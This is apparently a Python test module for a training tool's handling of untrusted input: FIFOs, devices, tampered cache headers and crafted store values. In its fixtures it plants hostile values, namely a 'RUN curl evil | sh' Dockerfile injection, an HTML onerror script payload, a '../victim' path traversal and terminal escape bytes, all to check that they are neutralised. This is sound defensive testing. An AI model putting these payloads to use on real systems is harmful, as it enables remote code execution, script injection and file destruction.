"""Issue 51, class 1: every byte read from a store, a cache, an imported
file or another machine is untrusted. A FIFO or a device where a file
belongs is refused at once (never read, never blocked on); the decoded-
dataset cache's checksum covers its header, and an entry whose header
disagrees with the data files is decoded again, never trained on; a
store's values are checked before they become a Dockerfile, Markdown or a
path."""
import contextlib
import glob
import hashlib
import os
import sqlite3
import struct
import time
import zlib

TITLE = "18. Untrusted bytes (the third hunt)"

MNIST = (
    "--set data.dataset=mnist --set data.path=$DIR/idx_ok --set train.batch_size=2 --no-progress")
CACHE_TRAIN = "$BARE --store sqlite:$DIR/cache.db -q train $DIR/good.yaml " + MNIST


def _idx(d, folder, fifo=None):
    """A 2-image 28x28 IDX set (labels 1, 2); `fifo` names a file that is a FIFO."""
    img = struct.pack(">IIII", 0x803, 2, 28, 28) + bytes(2 * 784)
    lab = struct.pack(">II", 0x801, 2) + bytes([1, 2])
    os.makedirs(f"{d}/{folder}")
    for prefix in ("train", "t10k"):
        for name, data in ((f"{prefix}-images-idx3-ubyte", img),
                           (f"{prefix}-labels-idx1-ubyte", lab)):
            if name == fifo:
                os.mkfifo(f"{d}/{folder}/{name}")
                continue
            with open(f"{d}/{folder}/{name}", "wb") as f:
                f.write(data)
    old = time.time() - 3600  # the cache keeps only files older than 2 s
    for name in os.listdir(f"{d}/{folder}"):
        if name != fifo:
            os.utime(f"{d}/{folder}/{name}", (old, old))


def _cache_entries(d, cache):
    return glob.glob(f"{d}/{cache}/trainscope/datasets/*.bin")


def fixtures(d, run):
    os.mkfifo(f"{d}/fifo.yaml", 0o600)
    os.mkfifo(f"{d}/fifo_out", 0o600)
    _idx(d, "idx_ok")
    _idx(d, "idx_fifo", fifo="train-images-idx3-ubyte")
    train = [f"{d}/idx_ok/train-images-idx3-ubyte", f"{d}/idx_ok/train-labels-idx1-ubyte"]
    key = hashlib.sha256("".join(os.path.abspath(f) + "\n" for f in train).encode())
    entry = f"{d}/cache_fifo/trainscope/datasets/{key.hexdigest()[:32]}.bin"
    os.makedirs(os.path.dirname(entry))
    os.mkfifo(entry)
    for cache in ("cache_flip", "cache_shape"):
        run(f"XDG_CACHE_HOME=$DIR/{cache} {CACHE_TRAIN} > /dev/null")
    for p in _cache_entries(d, "cache_flip"):  # classes (int64 at 112): 3 -> 515, one bit
        with open(p, "r+b") as f:
            f.seek(113)
            b = f.read(1)[0]
            f.seek(113)
            f.write(bytes([b ^ 0x02]))
    for p in _cache_entries(d, "cache_shape"):  # 28x28 -> 14x56, its checksum made to match
        e = bytearray(open(p, "rb").read())
        struct.pack_into("<qq", e, 96, 14, 56)
        struct.pack_into("<I", e, 120, 0)
        struct.pack_into("<I", e, 120, zlib.adler32(bytes(e)))
        open(p, "wb").write(e)
    for name, sql in (
            ("docker", "UPDATE environment SET value = value || char(10) || 'RUN curl evil | sh' "
                       "WHERE key = 'packages.debian.libc6:amd64'"),
            ("md", "UPDATE runs SET name = 'mdrun' || char(10) || "
                   "'## Results <img src=x onerror=alert(1)>' WHERE name = 'lm'"),
            ("crafted", "UPDATE runs SET uuid = '../victim' WHERE name = 'lm'"),
            ("esc", "UPDATE runs SET name = 'e' || char(27) || '[31m' || CAST(X'FF' AS TEXT) "
                    "|| '<x>' WHERE name = 'lm'")):
        run(f"cp $DIR/t.db $DIR/{name}.db")
        with contextlib.closing(sqlite3.connect(f"{d}/{name}.db")) as db, db:
            db.execute(sql)
    os.makedirs(f"{d}/victim")
    with open(f"{d}/victim/file.txt", "w") as f:
        f.write("kept\n")


def _header(cache, field, fmt, offset):
    """Trains through the cache, then prints FIELD of each entry's header."""
    return (f"XDG_CACHE_HOME=$DIR/{cache} {CACHE_TRAIN} > /dev/null && python3 -c 'import glob, "
            f"struct, sys; print(\"{field}\", *sorted(\"x\".join(map(str, struct.unpack_from("
            f"\"{fmt}\", open(p, \"rb\").read(128), {offset}))) for p in glob.glob(sys.argv[1] + "
            f"\"/trainscope/datasets/*.bin\")), file=sys.stderr)' $DIR/{cache}", {"ok": True})


CASES = [
    ("a store's package version that would become a Dockerfile instruction",
     "$BARE --store sqlite:$DIR/docker.db env recreate lm -o $DIR/recreate-docker; "
     "c=$?; test ! -e $DIR/recreate-docker/Dockerfile && exit $c"),
    ("a FIFO as the config", "timeout 20 $TS train $DIR/fifo.yaml"),
    ("a device as the config", "timeout 20 $TS train /dev/zero"),
    ("a FIFO as the study file", "timeout 20 $TS study run $DIR/fifo.yaml"),
    ("a FIFO as the profile grid", "timeout 20 $TS profile grid $DIR/fifo.yaml"),
    ("a FIFO as an IDX file",
     "timeout 60 $BARE --store sqlite:$DIR/cache.db train $DIR/good.yaml "
     "--set data.dataset=mnist --set data.path=$DIR/idx_fifo --set train.batch_size=2"),
    ("a FIFO where a dataset cache entry belongs (decoded without the cache)",
     "set -o pipefail; XDG_CACHE_HOME=$DIR/cache_fifo timeout 60 " + CACHE_TRAIN.replace(" -q", "") +
     " 2>&1 >/dev/null | grep 'dataset cache' | sed 's/[0-9a-f]\\{32\\}\\.bin/ENTRY.bin/' >&2",
     {"ok": True}),
    ("a cache entry with one bit of its header flipped (decoded again: 3 classes)",
     *_header("cache_flip", "classes", "<q", 112)),
    ("a crafted cache entry: shape changed, checksum made to match (decoded again: 28x28)",
     *_header("cache_shape", "shape", "<qq", 96)),
    ("an export into a FIFO nobody reads (after 10 s)", "$TS runs export lm -o $DIR/fifo_out"),
    ("a Model Card of a run whose name holds Markdown and HTML (kept as text)",
     "U=$(sqlite3 $DIR/md.db \"select uuid from runs where name like 'mdrun%'\") && "
     "$BARE --store sqlite:$DIR/md.db card $U | sed -n 1p >&2", {"ok": True}),
    ("a chart of a run whose name holds an escape character and a byte that is not UTF-8 "
     "(well-formed SVG)",
     "U=$(sqlite3 $DIR/esc.db \"select uuid from runs where name like 'e%'\") && "
     "$BARE --store sqlite:$DIR/esc.db plot $U lyapunov -o $DIR/esc.svg > /dev/null && "
     "python3 -c 'import sys, xml.dom.minidom as m; m.parse(sys.argv[1])' $DIR/esc.svg",
     {"ok": True}),
    ("a FIFO where the store keeps its reserve (skipped, never blocked on)",
     "cp $DIR/t.db $DIR/rsv.db && mkfifo $DIR/rsv.db-reserve && timeout 20 "
     "$BARE --store sqlite:$DIR/rsv.db -q numerics logmap --steps 2 --name rsv > /dev/null",
     {"ok": True}),
    ("a state dict written into a full device", "$TS weights ck2 -o /dev/full"),
    ("deleting a run whose stored UUID would leave the artifact folder (the folder kept)",
     "$BARE --store sqlite:$DIR/crafted.db runs delete lm --yes 2>&1 | grep -v '^deleted run' >&2; "
     "test -f $DIR/victim/file.txt", {"ok": True}),
]
